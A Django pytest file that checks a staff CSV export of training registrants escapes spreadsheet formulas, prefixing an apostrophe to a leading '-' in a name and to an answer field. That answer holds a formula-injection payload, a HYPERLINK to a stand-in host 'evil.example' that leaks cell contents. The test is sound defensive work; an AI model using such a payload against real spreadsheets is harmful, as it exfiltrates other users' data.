"""The staff registrants CSV goes through the one CSV writer (core.exports)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from tests.factories import MemberFactory, StaffFactory
from trainings import services

pytestmark = pytest.mark.django_db


def test_a_formula_in_an_answer_or_a_name_comes_out_as_text(client):
    starts = timezone.now() + dt.timedelta(days=10)
    training = services.training_create(
        title="研修テスト",
        starts_at=starts,
        ends_at=starts + dt.timedelta(hours=1),
        join_url="https://meet.example.jp/room",
        application_opens_at=timezone.now() - dt.timedelta(days=1),
        questions=["聞きたいこと", "@質問"],
    )
    member = MemberFactory(full_name="-横糸 花子", full_name_kana="ヨコイト ハナコ")
    answer = '=HYPERLINK("https://evil.example/?leak="&A2,"詳細")'
    services.training_apply(
        training_id=training.pk, user=member, answers={"0": answer, "1": "普通"}
    )
    client.force_login(StaffFactory())
    response = client.get(reverse("admin:trainings_training_registrants_csv", args=[training.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="training-{training.pk}-registrants.csv"'
    )
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf") and b"\r\n" in body
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    header, row = rows[0], rows[1]
    assert header[:5] == ["氏名", "フリガナ", "メールアドレス", "所属", "状態"]
    assert header[-2:] == ["質問1: 聞きたいこと", "質問2: @質問"]  # not at the cell start
    assert row[0] == "'-横糸 花子"
    assert row[-2] == "'" + answer
    assert row[-1] == "普通"
    assert len(rows) == 2
